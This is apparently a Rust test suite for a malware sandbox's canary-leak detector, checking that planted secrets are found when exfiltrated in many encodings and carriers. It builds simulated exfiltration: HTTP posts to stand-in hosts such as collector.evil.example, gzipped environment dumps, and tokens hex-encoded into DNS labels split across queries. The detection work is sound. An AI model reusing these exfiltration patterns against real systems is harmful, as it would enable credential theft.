//! The leak search: each encoding and each carrier has a case that must be found, and
//! the must-not cases (another run's canaries, a canary's prefix, random base64, hex and
//! compressed noise) must stay silent.

#![allow(clippy::unwrap_used)]

use std::io::Write;

use airlock_bait::{plan_with_rng, BaitPlan, LeakSearcher, Persona, PlanOptions};
use airlock_events::{Canary, Event, EventKind, ProcRef, Source};
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use base64::Engine;
use flate2::write::{DeflateEncoder, GzEncoder, ZlibEncoder};
use flate2::Compression;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

fn run_plan(seed: u64) -> BaitPlan {
    plan_with_rng(
        Persona::Ci,
        &PlanOptions::new("http://198.18.0.2"),
        &mut StdRng::seed_from_u64(seed),
    )
}

/// The run's canaries plus two with characters that survive encoders differently.
fn canaries(p: &BaitPlan) -> Vec<Canary> {
    let mut c = p.canaries.clone();
    c.push(Canary {
        id: "odd-bytes".into(),
        kind: "test".into(),
        location: "env:ODD".into(),
        value: "wq??>>??~~??sEcReT-0123456789".into(),
    });
    c.push(Canary {
        id: "slashy".into(),
        kind: "test".into(),
        location: "env:SLASHY".into(),
        value: "path/like/secret/0123456789abcdef".into(),
    });
    c
}

fn value<'a>(c: &'a [Canary], id: &str) -> &'a str {
    &c.iter().find(|c| c.id == id).unwrap().value
}

fn ev(seq: u64, kind: EventKind) -> Event {
    let mut e = Event::new(100.0 + seq as f64, "install", Source::Sink, kind);
    e.seq = seq;
    e
}

fn http(seq: u64, url: &str, headers: &[(&str, &str)], body: &str) -> Event {
    let host = url
        .split("://")
        .nth(1)
        .unwrap()
        .split('/')
        .next()
        .unwrap()
        .to_string();
    let path = format!(
        "/{}",
        url.split("://")
            .nth(1)
            .unwrap()
            .split_once('/')
            .map(|x| x.1)
            .unwrap_or("")
    );
    ev(
        seq,
        EventKind::HttpRequest {
            conn_id: 1,
            method: "POST".into(),
            url: url.into(),
            host,
            path,
            headers: headers
                .iter()
                .map(|(k, v)| (k.to_string(), v.to_string()))
                .collect(),
            body: body.into(),
            body_bytes: body.len() as u64,
            tls: url.starts_with("https"),
            response_status: 200,
        },
    )
}

fn post(body: &str) -> Event {
    http(
        7,
        "https://collector.evil.example/upload?id=1",
        &[("Content-Type", "text/plain")],
        body,
    )
}

fn post_bytes(body: &[u8]) -> Event {
    post(&format!("base64:{}", STANDARD.encode(body)))
}

fn dns(seq: u64, name: &str) -> Event {
    ev(
        seq,
        EventKind::DnsQuery {
            name: name.into(),
            qtype: "A".into(),
            answers: vec![],
            rcode: None,
        },
    )
}

/// (canary id, encoding, destination, carrier seq) of each leak.
fn leaks(found: &[Event]) -> Vec<(String, String, String, Option<u64>)> {
    found
        .iter()
        .map(|e| match &e.kind {
            EventKind::CanaryLeaked {
                canary_id,
                encoding,
                destination,
                carrier_seq,
                ..
            } => {
                assert_eq!(e.source, Source::Analysis);
                (
                    canary_id.clone(),
                    encoding.clone(),
                    destination.clone(),
                    *carrier_seq,
                )
            }
            other => panic!("not a leak: {other:?}"),
        })
        .collect()
}

fn gzip(b: &[u8]) -> Vec<u8> {
    let mut e = GzEncoder::new(Vec::new(), Compression::default());
    e.write_all(b).unwrap();
    e.finish().unwrap()
}

fn zlib(b: &[u8]) -> Vec<u8> {
    let mut e = ZlibEncoder::new(Vec::new(), Compression::best());
    e.write_all(b).unwrap();
    e.finish().unwrap()
}

fn deflate(b: &[u8]) -> Vec<u8> {
    let mut e = DeflateEncoder::new(Vec::new(), Compression::fast());
    e.write_all(b).unwrap();
    e.finish().unwrap()
}

/// A one-member zip archive (local header + deflated data; no central directory, as a
/// capture cut short would hold).
fn zip(name: &str, b: &[u8]) -> Vec<u8> {
    let data = deflate(b);
    let mut out = b"PK\x03\x04\x14\x00\x00\x00\x08\x00".to_vec();
    out.extend([0u8; 8]); // time, date, crc
    out.extend((data.len() as u32).to_le_bytes());
    out.extend((b.len() as u32).to_le_bytes());
    out.extend((name.len() as u16).to_le_bytes());
    out.extend(0u16.to_le_bytes());
    out.extend(name.as_bytes());
    out.extend(data);
    out
}

fn pct_all(b: &[u8]) -> String {
    b.iter().map(|b| format!("%{b:02X}")).collect()
}

fn pct(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

fn env_dump(c: &[Canary]) -> String {
    let mut m = serde_json::Map::new();
    m.insert("PATH".into(), "/usr/bin:/bin".into());
    m.insert("NPM_TOKEN".into(), value(c, "env-npm-token").into());
    m.insert(
        "AWS_SECRET_ACCESS_KEY".into(),
        value(c, "env-aws-secret-access-key").into(),
    );
    serde_json::Value::Object(m).to_string()
}

fn npmrc(p: &BaitPlan) -> Vec<u8> {
    p.file(&format!("{}/.npmrc", p.home))
        .unwrap()
        .content
        .clone()
}

/// The encoding under which `id` is found in `event`, failing if it is not found.
fn found_as(s: &LeakSearcher, event: &Event, id: &str) -> String {
    let l = leaks(&s.scan_event(event));
    l.iter()
        .find(|(c, ..)| c == id)
        .map(|(_, e, ..)| e.clone())
        .unwrap_or_else(|| panic!("{id} not found; found {l:?}"))
}

#[test]
fn every_encoding_in_an_http_body_is_found_and_named() {
    let p = run_plan(1);
    let c = canaries(&p);
    let s = LeakSearcher::new(&c);
    let npm = value(&c, "env-npm-token");
    let rc = npmrc(&p);
    let rc_id = "npmrc-token";
    let odd = value(&c, "odd-bytes");

    let cases: Vec<(&str, Event, &str)> = vec![
        ("plain", post(&format!("token={npm}&x=1")), "plain"),
        ("base64", post(&STANDARD.encode(npm)), "base64"),
        (
            "base64 of a larger blob, offset 0",
            post(&STANDARD.encode(&rc)),
            "base64",
        ),
        (
            "base64 of a larger blob, offset 1",
            post(&STANDARD.encode([b"x".as_slice(), &rc].concat())),
            "base64",
        ),
        (
            "base64 of a larger blob, offset 2",
            post(&STANDARD.encode([b"xy".as_slice(), &rc].concat())),
            "base64",
        ),
        (
            "double base64",
            post(&STANDARD.encode(STANDARD.encode(&rc))),
            "base64(base64)",
        ),
        ("hex", post(&hex::encode(npm)), "hex"),
        ("HEX", post(&hex::encode_upper(npm)), "hex"),
        (
            "percent-encoded",
            post(&format!("d={}", pct_all(npm.as_bytes()))),
            "url",
        ),
        (
            "json \\u escapes",
            post(
                &npm.bytes()
                    .map(|b| format!("\\u{b:04x}"))
                    .collect::<String>(),
            ),
            "json",
        ),
        (
            "json \\/",
            post(&format!(
                "{{\"k\":\"{}\"}}",
                value(&c, "slashy").replace('/', "\\/")
            )),
            "json",
        ),
        (
            "gzip (sink-decoded binary body)",
            post_bytes(&gzip(env_dump(&c).as_bytes())),
            "gzip",
        ),
        ("zlib", post_bytes(&zlib(env_dump(&c).as_bytes())), "zlib"),
        (
            "raw deflate",
            post_bytes(&deflate(env_dump(&c).as_bytes())),
            "deflate",
        ),
        (
            "zip member",
            post_bytes(&zip("loot/env.json", env_dump(&c).as_bytes())),
            "zip",
        ),
        (
            "reversed",
            post(&npm.chars().rev().collect::<String>()),
            "reversed",
        ),
        (
            "reversed base64",
            post(&STANDARD.encode(npm).chars().rev().collect::<String>()),
            "reversed(base64)",
        ),
        (
            "base64 of reversed",
            post(&STANDARD.encode(npm.chars().rev().collect::<String>())),
            "base64(reversed)",
        ),
        (
            "base64(gzip)",
            post(&format!(
                "{{\"d\":\"{}\"}}",
                STANDARD.encode(gzip(env_dump(&c).as_bytes()))
            )),
            "base64(gzip)",
        ),
        (
            "url(base64(gzip))",
            post(&format!(
                "d={}",
                pct(&STANDARD.encode(gzip(env_dump(&c).as_bytes())))
            )),
            "url(base64(gzip))",
        ),
        (
            "base64(base64(gzip))",
            post(&STANDARD.encode(STANDARD.encode(gzip(env_dump(&c).as_bytes())))),
            "base64(base64(gzip))",
        ),
        (
            "hex(gzip)",
            post(&hex::encode(gzip(env_dump(&c).as_bytes()))),
            "hex(gzip)",
        ),
    ];
    for (name, event, want) in cases {
        let id = if name.contains("larger blob") || name == "double base64" {
            rc_id
        } else if name == "json \\/" {
            "slashy"
        } else {
            "env-npm-token"
        };
        assert_eq!(found_as(&s, &event, id), want, "case {name}");
    }
    // URL-safe base64 without padding, of a value whose standard base64 has + and /.
    assert_eq!(
        found_as(&s, &post(&URL_SAFE_NO_PAD.encode(odd)), "odd-bytes"),
        "base64url"
    );
    assert!(STANDARD.encode(odd).contains(['+', '/']));
    // URL-encoded base64: the + and / of the base64 are percent-encoded.
    assert_eq!(
        found_as(
            &s,
            &post(&format!("q={}", pct(&STANDARD.encode(odd)))),
            "odd-bytes"
        ),
        "url(base64)"
    );
    // A form body with + for spaces.
    let seed = value(&c, "electrum-seed");
    assert_eq!(
        found_as(
            &s,
            &post(&format!("seed={}", seed.replace(' ', "+"))),
            "electrum-seed"
        ),
        "url"
    );
    // Wrapped `base64` output (76 columns) of a file holding the secret.
    let wrapped: String = STANDARD
        .encode([b"prefix bytes ".as_slice(), &rc, &[0u8; 100]].concat())
        .as_bytes()
        .chunks(76)
        .map(|l| format!("{}\n", std::str::from_utf8(l).unwrap()))
        .collect();
    assert!(found_as(&s, &post(&wrapped), rc_id).starts_with("base64"));
}

#[test]
fn a_gzipped_env_dump_reveals_every_secret_in_it() {
    let p = run_plan(2);
    let c = canaries(&p);
    let s = LeakSearcher::new(&c);
    let env: serde_json::Map<String, serde_json::Value> = p
        .env
        .iter()
        .map(|(k, v)| (k.clone(), v.clone().into()))
        .collect();
    let body = STANDARD.encode(gzip(serde_json::Value::Object(env).to_string().as_bytes()));
    let found = leaks(&s.scan_event(&post(&body)));
    let env_ids: Vec<&str> = p
        .canaries
        .iter()
        .filter(|c| c.location.starts_with("env:"))
        .map(|c| c.id.as_str())
        .collect();
    let found_ids: Vec<&str> = found.iter().map(|(id, ..)| id.as_str()).collect();
    assert_eq!(found_ids, env_ids);
    assert!(found.iter().all(|(_, enc, dest, seq)| enc == "base64(gzip)"
        && dest == "https://collector.evil.example/upload"
        && *seq == Some(7)));
}

#[test]
fn leak_events_carry_the_carriers_phase_time_and_process() {
    let p = run_plan(3);
    let s = LeakSearcher::new(&p.canaries);
    let tok = &p.canary("env-gh-token").unwrap().value;
    let mut e = http(
        42,
        "http://10.1.2.3:8080/x",
        &[("Authorization", &format!("token {tok}"))],
        "",
    );
    e.phase = "import".into();
    e.ts = 1234.5;
    e.proc = Some(ProcRef {
        pid: 77,
        exe: "node".into(),
        ..Default::default()
    });
    let out = s.scan_event(&e);
    assert_eq!(out.len(), 1);
    assert_eq!(out[0].phase, "import");
    assert_eq!(out[0].ts, 1234.5);
    assert_eq!(out[0].pid(), Some(77));
    assert_eq!(out[0].kind.type_name(), "canary.leaked");
    match &out[0].kind {
        EventKind::CanaryLeaked {
            canary_id,
            kind,
            destination,
            carrier_seq,
            ..
        } => {
            assert_eq!(canary_id, "env-gh-token");
            assert_eq!(kind, "github_pat");
            assert_eq!(destination, "http://10.1.2.3:8080/x");
            assert_eq!(*carrier_seq, Some(42));
        }
        k => panic!("{k:?}"),
    }
}

/// `scan_positions` names a carrier by its index in the slice, whatever its producer's
/// own seq (the engine numbers the merged trace only once, after the search).
#[test]
fn scan_positions_names_the_carrier_by_index() {
    let p = run_plan(3);
    let s = LeakSearcher::new(&p.canaries);
    let tok = &p.canary("env-gh-token").unwrap().value;
    let quiet = http(5, "http://10.1.2.3:8080/a", &[], "");
    let carrier = http(
        5,
        "http://10.1.2.3:8080/x",
        &[("Authorization", &format!("token {tok}"))],
        "",
    );
    let events = [quiet.clone(), quiet, carrier];
    let seqs: Vec<Option<u64>> = s
        .scan_positions(&events)
        .iter()
        .map(|e| match &e.kind {
            EventKind::CanaryLeaked { carrier_seq, .. } => *carrier_seq,
            k => panic!("{k:?}"),
        })
        .collect();
    assert_eq!(seqs, vec![Some(2)]);
    let by_seq: Vec<Option<u64>> = s
        .scan_events(&events)
        .iter()
        .map(|e| match &e.kind {
            EventKind::CanaryLeaked { carrier_seq, .. } => *carrier_seq,
            k => panic!("{k:?}"),
        })
        .collect();
    assert_eq!(by_seq, vec![Some(5)]);
}

#[test]
fn every_carrier() {
    let p = run_plan(4);
    let c = canaries(&p);
    let s = LeakSearcher::new(&c);
    let npm = value(&c, "env-npm-token");
    let aws = value(&c, "env-aws-access-key-id");

    // A header.
    let basic = STANDARD.encode(format!("victim:{npm}"));
    let e = http(
        1,
        "https://hooks.evil.example/in",
        &[("Authorization", &format!("Basic {basic}"))],
        "",
    );
    assert_eq!(
        leaks(&s.scan_event(&e)),
        vec![(
            "env-npm-token".into(),
            "base64".into(),
            "https://hooks.evil.example/in".into(),
            Some(1)
        )]
    );

    // A URL query (URL-encoded base64), destination without the query.
    let e = http(
        2,
        &format!(
            "https://evil.example/p.gif?u={}",
            pct(&STANDARD.encode(npm))
        ),
        &[],
        "",
    );
    assert_eq!(leaks(&s.scan_event(&e))[0].2, "https://evil.example/p.gif");

    // Labels of the host name.
    let hexed = hex::encode(npm);
    let host = format!("{}.{}.evil.example", &hexed[..40], &hexed[40..]);
    let e = http(3, &format!("http://{host}/"), &[], "");
    assert_eq!(found_as(&s, &e, "env-npm-token"), "hex");

    // Raw TCP bytes.
    let raw = [
        b"\x00\x01BEACON ".as_slice(),
        &gzip(format!("k={aws}").as_bytes()),
    ]
    .concat();
    let e = ev(
        4,
        EventKind::NetData {
            conn_id: 9,
            dst_addr: "198.18.0.9".into(),
            dst_port: 4444,
            hex: hex::encode(&raw),
            printable: String::new(),
            bytes: raw.len() as u64,
        },
    );
    assert_eq!(
        leaks(&s.scan_event(&e)),
        vec![(
            "env-aws-access-key-id".into(),
            "gzip".into(),
            "tcp:198.18.0.9:4444".into(),
            Some(4)
        )]
    );

    // TLS SNI.
    let e = ev(
        5,
        EventKind::TlsHandshake {
            conn_id: 3,
            sni: Some(host.clone()),
            alpn: vec![],
            ok: true,
            error: None,
        },
    );
    assert_eq!(leaks(&s.scan_event(&e))[0].2, format!("tls:{host}"));

    // One DNS query holding the whole value over several labels.
    let e = dns(
        6,
        &format!("{}.{}.x.evil.example", &hexed[..40], &hexed[40..]),
    );
    assert_eq!(found_as(&s, &e, "env-npm-token"), "hex");
}

#[test]
fn dns_exfiltration_split_over_queries_is_reassembled() {
    let p = run_plan(5);
    let s = LeakSearcher::new(&p.canaries);
    let npm = &p.canary("env-npm-token").unwrap().value;
    let hexed = hex::encode(npm);
    let chunks: Vec<&str> = hexed
        .as_bytes()
        .chunks(30)
        .map(|c| std::str::from_utf8(c).unwrap())
        .collect();
    assert!(chunks.len() >= 3);
    let mut events = vec![dns(10, "registry.npmjs.org")];
    let mut seq = 11;
    for (i, chunk) in chunks.iter().enumerate() {
        let name = format!("{i}.{chunk}.t.evil.example");
        // A and AAAA for each name, and an unrelated lookup in between.
        events.push(dns(seq, &name));
        events.push(dns(seq + 1, &name));
        events.push(dns(seq + 2, "github.com"));
        seq += 3;
    }
    // No single query holds the value.
    assert!(events.iter().all(|e| s.scan_event(e).is_empty()));
    let found = leaks(&s.scan_events(&events));
    assert_eq!(
        found,
        vec![(
            "env-npm-token".into(),
            "hex".into(),
            "dns:evil.example".into(),
            Some(11)
        )]
    );

    // Numbered chunks sent out of order (parallel lookups) are put back in order.
    let mut shuffled: Vec<Event> = chunks
        .iter()
        .enumerate()
        .rev()
        .map(|(i, ch)| dns(50 + i as u64, &format!("{i}.{ch}.evil.example")))
        .collect();
    shuffled.push(dns(60, "www.example.org"));
    assert_eq!(leaks(&s.scan_events(&shuffled)).len(), 1);

    // Base32, lowercase, split into labels of another parent.
    let b32 = base32_lower(
        p.canary("env-aws-secret-access-key")
            .unwrap()
            .value
            .as_bytes(),
    );
    let evs: Vec<Event> = b32
        .as_bytes()
        .chunks(20)
        .enumerate()
        .map(|(i, ch)| {
            dns(
                70 + i as u64,
                &format!("{}.d.exfil.co.uk", std::str::from_utf8(ch).unwrap()),
            )
        })
        .collect();
    let found = leaks(&s.scan_events(&evs));
    assert_eq!(
        found,
        vec![(
            "env-aws-secret-access-key".into(),
            "base32".into(),
            "dns:exfil.co.uk".into(),
            Some(70)
        )]
    );

    // Found in one query: not reported again for the group.
    let one = dns(
        80,
        &format!("{}.{}.evil.example", &hexed[..40], &hexed[40..]),
    );
    let again = dns(81, "zz.evil.example");
    assert_eq!(s.scan_events(&[one, again]).len(), 1);
}

fn base32_lower(b: &[u8]) -> String {
    const A: &[u8] = b"abcdefghijklmnopqrstuvwxyz234567";
    let (mut acc, mut bits, mut out) = (0u32, 0u32, String::new());
    for &x in b {
        acc = (acc << 8) | u32::from(x);
        bits += 8;
        while bits >= 5 {
            bits -= 5;
            out.push(A[((acc >> bits) & 31) as usize] as char);
        }
        acc &= (1 << bits) - 1;
    }
    if bits > 0 {
        out.push(A[((acc << (5 - bits)) & 31) as usize] as char);
    }
    out
}

#[test]
fn staged_files_are_searched_but_not_the_bait_itself() {
    let p = run_plan(6);
    let s = LeakSearcher::new(&p.canaries);
    let rc = npmrc(&p);
    let rc_path = format!("{}/.npmrc", p.home);
    // The bait file itself (e.g. the package rewrote it) is not a leak.
    assert!(s.scan_file(&rc_path, &rc, "install", 1.0).is_empty());
    // A copy staged elsewhere, compressed and encoded, is.
    let staged = STANDARD.encode(gzip(&rc));
    let out = s.scan_file("/tmp/.cache/x.dat", staged.as_bytes(), "install", 5.0);
    assert_eq!(
        leaks(&out),
        vec![(
            "npmrc-token".into(),
            "base64(gzip)".into(),
            "file:/tmp/.cache/x.dat".into(),
            None
        )]
    );
    assert_eq!(out[0].ts, 5.0);
    // A tarball of the home directory.
    let key = p
        .file(&format!("{}/.ssh/id_ed25519", p.home))
        .unwrap()
        .content
        .clone();
    let tgz = gzip(&[vec![0u8; 512], key, vec![0u8; 1024]].concat());
    let out = leaks(&s.scan_file("/tmp/h.tgz", &tgz, "install", 5.0));
    assert_eq!(
        out,
        vec![(
            "ssh-private-key".into(),
            "gzip".into(),
            "file:/tmp/h.tgz".into(),
            None
        )]
    );
}

#[test]
fn nothing_is_found_that_is_not_this_runs_canary() {
    let p = run_plan(7);
    let other = run_plan(8);
    let s = LeakSearcher::new(&p.canaries);
    let mut rng = StdRng::seed_from_u64(99);

    // Another run's canaries in every encoding the positive tests use.
    let oc = canaries(&other);
    let onpm = value(&oc, "env-npm-token");
    let dump = env_dump(&oc);
    let bodies = vec![
        onpm.to_string(),
        STANDARD.encode(onpm),
        STANDARD.encode(npmrc(&other)),
        hex::encode(onpm),
        pct_all(onpm.as_bytes()),
        onpm.chars().rev().collect(),
        STANDARD.encode(gzip(dump.as_bytes())),
        format!("base64:{}", STANDARD.encode(zlib(dump.as_bytes()))),
        serde_json::to_string(&other.env).unwrap(),
    ];
    for b in &bodies {
        assert!(
            s.scan_event(&post(b)).is_empty(),
            "false positive in {b:.60}"
        );
    }
    let dns_other: Vec<Event> = hex::encode(onpm)
        .as_bytes()
        .chunks(30)
        .enumerate()
        .map(|(i, ch)| {
            dns(
                i as u64,
                &format!("{i}.{}.evil.example", std::str::from_utf8(ch).unwrap()),
            )
        })
        .collect();
    assert!(s.scan_events(&dns_other).is_empty());

    // A prefix of this run's canary, in several encodings.
    for c in &p.canaries {
        let prefix = &c.value[..c.value.len() - 3];
        for b in [
            prefix.to_string(),
            STANDARD.encode(prefix),
            hex::encode(prefix),
            STANDARD.encode(gzip(prefix.as_bytes())),
        ] {
            let found = leaks(&s.scan_event(&post(&b)));
            assert!(
                found.iter().all(|(id, ..)| id != &c.id),
                "prefix of {} found: {found:?}",
                c.id
            );
        }
    }

    // Random noise: base64, hex, compressed, and DNS labels.
    let noise: Vec<u8> = (0..256 * 1024).map(|_| rng.random()).collect();
    assert!(s.scan_event(&post(&STANDARD.encode(&noise))).is_empty());
    assert!(s
        .scan_event(&post(&URL_SAFE_NO_PAD.encode(&noise[..4096])))
        .is_empty());
    assert!(s.scan_event(&post(&hex::encode(&noise[..8192]))).is_empty());
    assert!(s.scan_event(&post_bytes(&noise)).is_empty());
    assert!(s.scan_event(&post_bytes(&gzip(&noise[..65536]))).is_empty());
    let labels: Vec<Event> = (0..200)
        .map(|i| {
            dns(
                i,
                &format!(
                    "{}.cdn.example.net",
                    hex::encode(&noise[i as usize * 20..][..20])
                ),
            )
        })
        .collect();
    assert!(s.scan_events(&labels).is_empty());
}

#[test]
fn short_canaries_are_ignored_and_limits_hold() {
    let short = Canary {
        id: "short".into(),
        kind: "t".into(),
        location: "env:X".into(),
        value: "abc123".into(),
    };
    let s = LeakSearcher::new(&[short]);
    assert_eq!(s.ignored(), ["short".to_string()]);
    assert!(s.scan_event(&post("abc123 abc123")).is_empty());

    // A 4 MiB body of text with the secret, gzipped and base64-encoded, at its end.
    let p = run_plan(9);
    let s = LeakSearcher::new(&p.canaries);
    let npm = &p.canary("env-npm-token").unwrap().value;
    let mut body = "lorem ipsum dolor sit amet aVeryLongIdentifierNameHere_x0 ".repeat(70_000);
    // (Compressible enough that gzip does not store the secret verbatim.)
    let loot = format!("{}NPM_TOKEN={npm}\n", "HOME=/home/runner\n".repeat(20));
    body.push_str(&STANDARD.encode(gzip(loot.as_bytes())));
    let t = std::time::Instant::now();
    assert_eq!(found_as(&s, &post(&body), "env-npm-token"), "base64(gzip)");
    assert!(t.elapsed().as_secs() < 30, "took {:?}", t.elapsed());
}

/// The exercise phase and its persona passes call the same function with other canaries:
/// numbered chunks of two phases' sessions must not interleave (before, the two runs of a
/// DNS-exfiltrating wallet constructor hid each other's key).
#[test]
fn dns_chunks_of_two_phases_are_reassembled_per_phase() {
    let p = run_plan(6);
    let s = LeakSearcher::new(&p.canaries);
    let mut events = Vec::new();
    let mut seq = 10;
    for (phase, id) in [
        ("exercise", "env-npm-token"),
        ("exercise@browser", "env-gh-token"),
    ] {
        let hexed = hex::encode(&p.canary(id).unwrap().value);
        for (i, chunk) in hexed.as_bytes().chunks(30).enumerate() {
            let mut e = dns(
                seq,
                &format!("{i}.{}.chain.example", std::str::from_utf8(chunk).unwrap()),
            );
            e.phase = phase.into();
            events.push(e);
            seq += 1;
        }
    }
    let mut found: Vec<String> = leaks(&s.scan_events(&events))
        .into_iter()
        .map(|(id, ..)| id)
        .collect();
    found.sort();
    assert_eq!(found, ["env-gh-token", "env-npm-token"]);
}
